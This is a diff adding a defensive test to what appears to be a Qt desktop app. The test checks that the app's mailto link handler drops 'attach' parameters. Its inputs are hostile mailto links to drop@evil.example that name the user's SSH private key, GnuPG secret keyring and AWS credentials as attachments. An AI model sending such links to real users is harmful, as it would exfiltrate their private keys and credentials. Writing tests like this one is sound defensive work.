@@ -233,3 +233,18 @@ def test_the_knowledge_previews_copy_link_copies_and_its_links_show_where_they_g
     editor.preview.highlighted.emit(QUrl("cairn:ask:https://evil.example"))
     assert "https://evil.example" in editor.preview.toolTip()
     assert opened_links == []
+
+
+def test_a_mail_link_opens_without_a_file_attached(qapp, asked, opened_links):
+    """Some mail programs attach the file a mailto link names (``attach=``, ``attachment=``):
+    a reply's or a bundle's link would mail the person's key away.  Only the address and
+    the ordinary fields (subject, body, cc, bcc, to) reach the mail program."""
+    from ui.links import follow
+
+    assert follow("mailto:drop@evil.example?subject=Hi&attach=/home/me/.ssh/id_rsa"
+                  "&Attachment=file:///home/me/.gnupg/secring.gpg&body=See%20you") is True
+    assert follow("mailto:drop@evil.example?ATTACH=~/.aws/credentials") is True
+    opened = [url.toString() for url in opened_links]
+    assert all("attach" not in url.lower() for url in opened), opened
+    assert opened[0].startswith("mailto:drop@evil.example?subject=Hi")
+    assert "body=See" in opened[0]
